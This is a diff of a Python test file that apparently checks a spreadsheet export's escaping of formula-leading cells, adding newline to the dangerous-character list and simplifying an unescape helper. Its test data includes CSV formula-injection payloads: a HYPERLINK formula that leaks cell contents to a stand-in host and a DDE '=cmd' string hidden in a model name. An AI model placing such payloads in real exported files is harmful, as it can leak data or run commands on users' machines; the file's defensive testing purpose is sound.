@@ -17,7 +17,7 @@ SERVER = "ollama@127.0.0.1:11434"
 HOSTILE = ['=HYPERLINK("http://x.example/?q="&A1,"open")', "+SUM(1,2)", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1"]
 MODELS = ["通义千问-7B-Chat", "Ωmega 🚀", 'qwen, "chat"\nv2', "=cmd|' /C calc'!A0"]
-DANGEROUS_FIRST = ("=", "+", "-", "@", "\t", "\r")
+DANGEROUS_FIRST = ("=", "+", "-", "@", "\t", "\r", "\n")  # what a spreadsheet may evaluate
 
 
 def recorded_requests() -> list[RequestRecord]:
@@ -57,6 +57,8 @@ def record_session(store: Store, collector: SystemCollector, polls: int = 3) -> 
 
 
 def unescape(cell: str) -> str:
-    """What a spreadsheet shows for a cell the export escaped."""
-    return cell[1:] if cell.startswith("'") and cell[1:2] in DANGEROUS_FIRST and cell[1:] else cell
+    """What a spreadsheet shows for a cell the export escaped: the text without its one
+    leading ``'`` (the export adds one to every text that starts with a formula character or
+    with ``'``)."""
+    return cell[1:] if cell.startswith("'") else cell
 
